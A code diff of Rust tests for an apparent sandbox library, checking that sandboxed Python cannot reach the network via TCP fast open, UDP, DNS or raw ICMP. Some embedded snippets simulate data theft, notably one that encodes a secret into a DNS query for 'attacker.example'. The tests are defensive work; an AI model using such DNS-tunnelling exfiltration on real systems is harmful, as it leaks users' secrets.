@@ -12,7 +12,8 @@ use skills_sandbox::{Guarantee, Policy};
 
 use crate::skip_if;
 use crate::support::{
-    Outcome, bash, is_root, passed, python, site, spawn, trial, unique, without, without_root,
+    Outcome, bash, is_root, passed, python, site, spawn, trial, unique, without,
+    without_namespaces, without_root,
 };
 
 pub fn tests() -> Vec<Trial> {
@@ -121,8 +122,7 @@ fn fast_open() -> Outcome {
         &site.work,
         &format!(
             "import socket\n\
-             s = socket.socket()\n\
-             try:\n    s.sendto(b'GET / HTTP/1.0\\r\\n\\r\\n', socket.MSG_FASTOPEN, ('127.0.0.1', {port})); \
+             try:\n    s = socket.socket()\n    s.sendto(b'GET / HTTP/1.0\\r\\n\\r\\n', socket.MSG_FASTOPEN, ('127.0.0.1', {port})); \
              print('sent')\n\
              except OSError as e: print('refused', e.errno)"
         ),
@@ -142,8 +142,9 @@ fn listen_without_bind() -> Outcome {
         "python3",
         &[
             "-c",
-            "import socket, time\n\
-             s = socket.socket(); s.listen()\n\
+            "import socket, sys\n\
+             try:\n    s = socket.socket(); s.listen()\n\
+             except OSError as e: print('refused', e.errno); sys.exit()\n\
              print(s.getsockname()[1], flush=True)\n\
              s.settimeout(3)\n\
              try:\n    s.accept(); print('accepted', flush=True)\n\
@@ -152,6 +153,12 @@ fn listen_without_bind() -> Outcome {
         |_| {},
     );
     let (port, mut rest) = running.first_line();
+    if port.starts_with("refused") {
+        // The fallback's filter refuses the socket: nothing listens at all.
+        let status = running.wait_or_kill(Duration::from_secs(10));
+        running.call.finish(status).unwrap();
+        return passed();
+    }
     let port: u16 = port
         .parse()
         .unwrap_or_else(|_| panic!("a port, not {port:?}"));
@@ -178,12 +185,12 @@ fn udp() -> Outcome {
         &site.work,
         &format!(
             "import socket\n\
-             s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
-             try:\n    s.sendto(b'exfiltrated', ('127.0.0.1', {port})); print('sent')\n\
+             try:\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    s.sendto(b'exfiltrated', ('127.0.0.1', {port})); print('sent')\n\
              except OSError as e: print('refused', e.errno)"
         ),
     );
-    // Sent into the sandbox's own loopback, where nobody listens on that port.
+    // Sent into the sandbox's own loopback, where nobody listens on that port (or refused by
+    // the fallback's filter).
     run.ok();
     assert_no_datagram(&socket, &run.output());
     passed()
@@ -202,9 +209,8 @@ fn dns() -> Outcome {
             "import socket, struct\n\
              name = b''.join(bytes([len(p)]) + p for p in b'{secret}.attacker.example'.split(b'.')) + b'\\0'\n\
              query = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + name + struct.pack('>HH', 1, 1)\n\
-             s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.5)\n\
-             s.sendto(query, ('127.0.0.1', {port}))\n\
-             try:\n    s.recv(512); print('answered')\n\
+             try:\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.5)\n    \
+             s.sendto(query, ('127.0.0.1', {port})); s.recv(512); print('answered')\n\
              except OSError: print('no answer')\n\
              try:\n    socket.getaddrinfo('{secret}.attacker.example', 80); print('resolved')\n\
              except OSError: print('not resolved')"
@@ -234,8 +240,14 @@ fn raw_icmp() -> Outcome {
     );
     assert!(is_root());
     // Raw sockets need CAP_NET_RAW, which root does not have in the sandbox; ping sockets are
-    // closed to every group in a new network namespace.
-    assert_eq!(run.ok().trim(), "refused 1\nrefused 13", "{}", run.output());
+    // closed to every group in a new network namespace (the fallback's filter refuses both).
+    let out = run.ok();
+    let lines: Vec<&str> = out.lines().collect();
+    assert!(
+        matches!(lines[..], ["refused 1", "refused 1" | "refused 13"]),
+        "{}",
+        run.output()
+    );
     passed()
 }
 
@@ -265,6 +277,7 @@ fn abstract_socket() -> Outcome {
 }
 
 fn private_loopback() -> Outcome {
+    skip_if!(without_namespaces());
     let site = site();
     let run = python(
         &Policy::default(),
